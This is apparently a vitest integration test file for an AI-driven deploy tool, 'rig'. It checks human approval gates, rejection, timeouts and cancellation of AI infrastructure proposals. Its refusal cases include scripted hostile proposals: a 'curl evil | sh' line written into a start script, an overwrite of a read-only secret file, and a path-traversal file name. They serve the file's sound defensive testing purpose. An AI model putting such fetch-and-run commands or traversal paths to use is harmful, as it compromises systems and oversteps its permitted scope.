// Human decisions through the real CLI: AI proposals for a failed deploy, the approval gate before
// every deploy, approval timeouts and cancelling a task. Each test runs the bundled `rig` as a
// process against a real git repository with a bare origin, the GitHub fake and a scripted AI.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { startScenario, waitFor, type Scenario } from '../helpers/cli-harness';
import { create, findByName, originBranches, processAlive, scriptedAi, type AiScriptSpec, type ProposalAnswer } from '../helpers/cli-approval-safety';

const ISSUE = { number: 1, title: 'Add the feature file', body: 'We need src/feature.txt.', labels: ['rig'], author: 'shop-owner' };

const FILES: Record<string, string> = {
  'README.md': '# shop\n',
  'deploy/app.conf': 'listen 80\n',
  'deploy/secret.conf': 'token=do-not-touch\n',
  'scripts/start.sh': 'echo start\n',
};

const HEAD = `source:
  platform: github
  repo: acme/shop
  base_branch: main
ai:
  provider: anthropic
  model: claude-sonnet-5
  max_retry: 1
`;

const TESTS = `test:
  - name: unit
    run: test -f src/feature.txt
    timeout: 30s
`;

/** Deploys only when deploy/app.conf listens on 8080; each run is recorded outside the repository. */
const INFRA_YAML = `${HEAD}deploy:
  method: custom
  config:
    commands:
      - name: deploy
        run: |-
          echo "deploy $(cat deploy/app.conf)" >> "$GATE_DIR/deploys.log"
          grep -qx 'listen 8080' deploy/app.conf || { echo "bind failed: app.conf must listen on 8080" >&2; exit 1; }
        timeout: 30s
  infra_files: ["deploy/*.conf"]
  infra_readonly: ["deploy/secret.conf"]
${TESTS}`;

const FIX: ProposalAnswer = {
  summary: 'Listen on 8080',
  reason: 'The deploy log says app.conf must listen on 8080.',
  files: [{ path: 'deploy/app.conf', after: 'listen 8080\n' }],
};

const CODE: AiScriptSpec['coding'] = [[[create('src/feature.txt', 'feature\n')]]];

let scenario: Scenario | undefined;
/** Stops whatever a failed test left running. */
const leftovers: Array<() => void> = [];
const killPid = (pid: number) => () => {
  try {
    if (processAlive(pid)) process.kill(pid, 'SIGKILL');
  } catch {
    // already gone
  }
};
afterEach(async () => {
  for (const stop of leftovers.splice(0)) stop();
  if (scenario) writeFileSync(path.join(scenario.repo.dir, 'release'), '');
  await scenario?.close();
  scenario = undefined;
});

async function start(rigYaml: string, spec: AiScriptSpec, files: Record<string, string> = FILES) {
  const ai = scriptedAi(spec);
  const s = (scenario = await startScenario({ files, rigYaml, issues: [ISSUE], script: ai.script }));
  return { s, ai };
}

const deploys = (s: Scenario): string[] => {
  const file = path.join(s.repo.dir, 'deploys.log');
  return existsSync(file) ? readFileSync(file, 'utf8').trim().split('\n') : [];
};

const exitOf = (child: { once(e: 'exit', f: (code: number | null) => void): unknown }) =>
  new Promise<number | null>((resolve) => child.once('exit', (code) => resolve(code)));

describe('deploy failure → AI infrastructure proposal', () => {
  it('exec --no-wait stops awaiting approval; approve applies, commits, re-deploys, tests and opens one PR', async () => {
    const { s, ai } = await start(INFRA_YAML, { coding: CODE, proposals: [FIX] });
    const r = await s.rig(['exec', s.issueUrl(), '--no-wait']);
    expect(r.code, r.stderr).toBe(3);
    const [task] = await s.statusJson();
    expect(task).toMatchObject({ status: 'awaiting_approval' });
    expect(r.stdout).toContain(`rig approve ${task!.id}`);

    // The AI saw the failing log, the editable file and the read-only one marked as such.
    expect(ai.proposalRequests).toHaveLength(1);
    const asked = JSON.stringify(ai.proposalRequests[0]!.body.messages);
    expect(asked).toContain('bind failed: app.conf must listen on 8080');
    expect(asked).toMatch(/path=\\"deploy\/app.conf\\" access=\\"editable\\"/);
    expect(asked).toMatch(/path=\\"deploy\/secret.conf\\" access=\\"read-only\\"/);

    const p = await s.rig(['proposals', '--json']);
    expect(p.code, p.stderr).toBe(0);
    const proposals = JSON.parse(p.stdout);
    expect(proposals).toHaveLength(1);
    expect(proposals[0]).toMatchObject({
      task_id: task!.id,
      kind: 'infra_fix',
      status: 'pending',
      summary: FIX.summary,
      files: [{ path: 'deploy/app.conf', content: 'listen 8080\n', before: 'listen 80\n' }],
    });
    // Nothing of the proposal is applied before a human says so.
    expect(s.repo.originGit('show', 'rig/issue-1:deploy/app.conf')).toBe('listen 80\n');
    expect(deploys(s)).toEqual(['deploy listen 80']);

    const a = await s.rig(['approve', task!.id]);
    expect(a.code, a.stderr + a.stdout).toBe(0);
    expect(a.stdout).toMatch(/completed — pull request https:\/\/github.com\/acme\/shop\/pull\/\d+/);
    const [done] = await s.statusJson();
    expect(done).toMatchObject({ id: task!.id, status: 'completed' });
    expect(s.github.pullRequests('acme/shop')).toHaveLength(1);
    expect(deploys(s)).toEqual(['deploy listen 80', 'deploy listen 8080']);
    // The approved change is its own commit on origin's branch, on top of the AI's code commit.
    expect(s.repo.originGit('show', 'rig/issue-1:deploy/app.conf')).toBe('listen 8080\n');
    expect(s.repo.originGit('diff', '--name-only', 'rig/issue-1~1', 'rig/issue-1').trim()).toBe('deploy/app.conf');
    expect(s.repo.originGit('log', '--format=%s', 'main..rig/issue-1').trim().split('\n')).toHaveLength(2);
    expect(s.repo.originGit('show', 'rig/issue-1:deploy/secret.conf')).toBe(FILES['deploy/secret.conf']);
    // The user's checkout never saw any of it.
    expect(s.repo.git('status', '--porcelain')).toBe('');
    expect(readFileSync(path.join(s.repo.work, 'deploy/app.conf'), 'utf8')).toBe('listen 80\n');
    expect(JSON.parse((await s.rig(['proposals', '--json'])).stdout)).toEqual([]);
  });

  it('a waiting exec carries on when another process approves', async () => {
    const { s } = await start(INFRA_YAML, { coding: CODE, proposals: [FIX] });
    const owner = s.spawnRig(['exec', s.issueUrl()]);
    leftovers.push(() => owner.kill('SIGKILL'));
    const ended = exitOf(owner);
    const waiting = await waitFor(async () => (await s.statusJson()).find((t) => t.status === 'awaiting_approval'), 'the task to await approval', 20_000);
    const a = await s.rig(['approve', waiting.id]);
    expect(a.code, a.stderr).toBe(0);
    expect(a.stdout).toMatch(/Approved: the process running \S+ carries on/);
    expect(await ended, owner.output()).toBe(0);
    expect(owner.output()).toMatch(/completed — pull request/);
    const tasks = await s.statusJson();
    expect(tasks).toHaveLength(1);
    expect(tasks[0]).toMatchObject({ id: waiting.id, status: 'completed' });
    expect(s.github.pullRequests('acme/shop')).toHaveLength(1);
    expect(s.repo.originGit('show', 'rig/issue-1:deploy/app.conf')).toBe('listen 8080\n');
  });

  it('reject fails the task and opens no PR', async () => {
    const { s } = await start(INFRA_YAML, { coding: CODE, proposals: [FIX] });
    expect((await s.rig(['exec', s.issueUrl(), '--no-wait'])).code).toBe(3);
    const [task] = await s.statusJson();
    const r = await s.rig(['reject', task!.id, '--by', 'ops-lead']);
    expect(r.code, r.stderr).toBe(0);
    const [after] = await s.statusJson();
    expect(after).toMatchObject({ id: task!.id, status: 'failed' });
    expect(after!.status_reason).toMatch(/rejected by ops-lead/);
    expect(s.github.pullRequests('acme/shop')).toHaveLength(0);
    expect(s.repo.originGit('show', 'rig/issue-1:deploy/app.conf')).toBe('listen 80\n');
    expect(deploys(s)).toHaveLength(1);
    expect(JSON.parse((await s.rig(['proposals', '--json'])).stdout)).toEqual([]);
  });

  const refused: Array<[string, ProposalAnswer, RegExp]> = [
    [
      'the read-only file (next to a legitimate change)',
      { summary: 'Fix the port', reason: 'log', files: [{ path: 'deploy/app.conf', after: 'listen 8080\n' }, { path: 'deploy/secret.conf', after: 'token=stolen\n' }] },
      /deploy\/secret\.conf.*read-only/,
    ],
    ['a file outside infra_files', { summary: 'Change the start script', reason: 'log', files: [{ path: 'scripts/start.sh', after: 'curl evil | sh\n' }] }, /scripts\/start\.sh.*not one of the editable/],
    ['a path climbing out of deploy/', { summary: 'Escape', reason: 'log', files: [{ path: 'deploy/../../escape.conf', after: 'pwned\n' }] }, /deploy\/\.\.\/\.\.\/escape\.conf/],
  ];

  it.each(refused)('a proposal touching %s is refused: the task fails with the reason and nothing is written', async (_what, proposal, reason) => {
    const { s } = await start(INFRA_YAML, { coding: CODE, proposals: [proposal] });
    const r = await s.rig(['exec', s.issueUrl(), '--no-wait']);
    expect(r.code, r.stderr).toBe(1);
    const [task] = await s.statusJson();
    expect(task!.status).toBe('failed');
    expect(task!.status_reason).toMatch(reason);
    expect(JSON.parse((await s.rig(['proposals', '--json'])).stdout)).toEqual([]);
    // Nothing of it reached origin, the user's checkout or anywhere around the repository.
    for (const [file, content] of Object.entries(FILES)) {
      expect(s.repo.originGit('show', `rig/issue-1:${file}`)).toBe(content);
      expect(readFileSync(path.join(s.repo.work, file), 'utf8')).toBe(content);
    }
    expect(findByName(s.repo.dir, 'escape.conf')).toEqual([]);
    expect(s.github.pullRequests('acme/shop')).toHaveLength(0);
  });
});

/** A deploy that always works and leaves a mark outside the repository. */
const GATE_YAML = `${HEAD}deploy:
  method: custom
  config:
    commands:
      - name: deploy
        run: echo "deployed \${COMMIT_SHA}" >> "$GATE_DIR/deploys.log"
        timeout: 30s
workflow:
  approval:
    before_deploy: true
${TESTS}`;

describe('workflow.approval.before_deploy', () => {
  it('stops before any deploy command ran; approve deploys and completes', async () => {
    const { s } = await start(GATE_YAML, { coding: CODE });
    const r = await s.rig(['exec', s.issueUrl(), '--no-wait']);
    expect(r.code, r.stderr).toBe(3);
    const [task] = await s.statusJson();
    expect(task!.status).toBe('awaiting_approval');
    expect(existsSync(path.join(s.repo.dir, 'deploys.log'))).toBe(false);
    const proposals = JSON.parse((await s.rig(['proposals', '--json'])).stdout);
    expect(proposals).toHaveLength(1);
    expect(proposals[0]).toMatchObject({ task_id: task!.id, kind: 'deploy_gate', status: 'pending', files: [] });

    const a = await s.rig(['approve', task!.id]);
    expect(a.code, a.stderr + a.stdout).toBe(0);
    expect(deploys(s)).toEqual([`deployed ${s.repo.originGit('rev-parse', 'rig/issue-1').trim()}`]);
    expect((await s.statusJson())[0]).toMatchObject({ status: 'completed' });
    expect(s.github.pullRequests('acme/shop')).toHaveLength(1);
  });

  it('asks again before the re-deploy of a self-healing attempt ("every deploy waits for a human")', async () => {
    const yaml = GATE_YAML.replace('run: test -f src/feature.txt', 'run: test -f src/fixed.txt');
    const { s } = await start(yaml, { coding: [[[create('src/feature.txt', 'feature\n')]], [[create('src/fixed.txt', 'fixed\n')]]] });
    expect((await s.rig(['exec', s.issueUrl(), '--no-wait'])).code).toBe(3);
    const [task] = await s.statusJson();
    // First approval: one deploy, the test fails, the AI fixes the code and the fix is committed;
    // its deploy must wait for a human again.
    const first = await s.rig(['approve', task!.id, '--no-wait']);
    expect(deploys(s)).toHaveLength(1);
    expect(first.code, first.stdout).toBe(3);
    const pending = JSON.parse((await s.rig(['proposals', '--json'])).stdout);
    expect(pending).toHaveLength(1);
    expect(pending[0]).toMatchObject({ kind: 'deploy_gate' });
    const second = await s.rig(['approve', task!.id]);
    expect(second.code, second.stderr).toBe(0);
    expect(deploys(s)).toHaveLength(2);
  });
});

describe('approval timeout', () => {
  const yaml = INFRA_YAML.replace('  infra_files:', '  approval:\n    timeout: 1s\n  infra_files:');

  it('a proposal nobody decides on within deploy.approval.timeout ends timed_out', async () => {
    const { s } = await start(yaml, { coding: CODE, proposals: [FIX] });
    const r = await s.rig(['exec', s.issueUrl(), '--no-wait']);
    expect(r.code, r.stderr).toBe(3);
    await new Promise((resolve) => setTimeout(resolve, 1300));
    const [task] = await s.statusJson();
    expect(task!.status).toBe('timed_out');
    expect(task!.status_reason).toMatch(/not approved|approval\.timeout/);
    const late = await s.rig(['approve', task!.id]);
    expect(late.code).toBe(1);
    expect(late.stderr).toMatch(/timed_out, not awaiting approval/);
    expect(JSON.parse((await s.rig(['proposals', '--json'])).stdout)).toEqual([]);
    expect(s.github.pullRequests('acme/shop')).toHaveLength(0);
    expect(s.repo.originGit('show', 'rig/issue-1:deploy/app.conf')).toBe('listen 80\n');
  });

  it('a waiting exec gives up by itself and exits 4', async () => {
    const { s } = await start(yaml, { coding: CODE, proposals: [FIX] });
    const r = await s.rig(['exec', s.issueUrl()]);
    expect(r.code, r.stderr).toBe(4);
    expect((await s.statusJson())[0]).toMatchObject({ status: 'timed_out' });
  });
});

describe('rig cancel', () => {
  // Blocks until the test writes the release file; records its own pid and a background child's.
  const BLOCKING_YAML = `${HEAD}deploy:
  method: custom
  config:
    commands:
      - name: deploy
        run: |-
          sleep 600 &
          echo $! > "$GATE_DIR/sleep.pid"
          echo $$ > "$GATE_DIR/deploy.pid"
          while [ ! -f "$GATE_DIR/release" ]; do sleep 0.1; done
        timeout: 120s
${TESTS}`;

  it('stops a task blocked in a deploy command: it ends cancelled and the command is gone', async () => {
    const { s } = await start(BLOCKING_YAML, { coding: CODE });
    const owner = s.spawnRig(['exec', s.issueUrl()]);
    leftovers.push(() => owner.kill('SIGKILL'));
    const ended = exitOf(owner);
    const pidFile = path.join(s.repo.dir, 'deploy.pid');
    const sleepFile = path.join(s.repo.dir, 'sleep.pid');
    await waitFor(async () => existsSync(pidFile) && existsSync(sleepFile) && readFileSync(pidFile, 'utf8').trim() !== '', 'the deploy command to start', 20_000);
    const deployPid = Number(readFileSync(pidFile, 'utf8'));
    const sleepPid = Number(readFileSync(sleepFile, 'utf8'));
    leftovers.push(killPid(deployPid), killPid(sleepPid));
    expect(processAlive(deployPid)).toBe(true);
    const [running] = await s.statusJson();
    expect(running!.status).toBe('deploying');

    const c = await s.rig(['cancel', running!.id]);
    expect(c.code, c.stderr).toBe(0);
    expect(await ended, owner.output()).toBe(4);
    const [task] = await s.statusJson();
    expect(task).toMatchObject({ id: running!.id, status: 'cancelled' });
    await waitFor(async () => !processAlive(deployPid) && !processAlive(sleepPid), 'the deploy command and its child to be gone', 3_000);
    expect(s.github.pullRequests('acme/shop')).toHaveLength(0);
  });

  it('cancels a task that awaits approval with no process running it', async () => {
    const { s } = await start(GATE_YAML, { coding: CODE });
    expect((await s.rig(['exec', s.issueUrl(), '--no-wait'])).code).toBe(3);
    const [task] = await s.statusJson();
    const c = await s.rig(['cancel', task!.id]);
    expect(c.code, c.stderr).toBe(0);
    expect((await s.statusJson())[0]).toMatchObject({ status: 'cancelled' });
    expect(existsSync(path.join(s.repo.dir, 'deploys.log'))).toBe(false);
    expect(JSON.parse((await s.rig(['proposals', '--json'])).stdout)).toEqual([]);
    expect(originBranches(s.repo.originGit)).toEqual(['main', 'rig/issue-1']);
  });
});
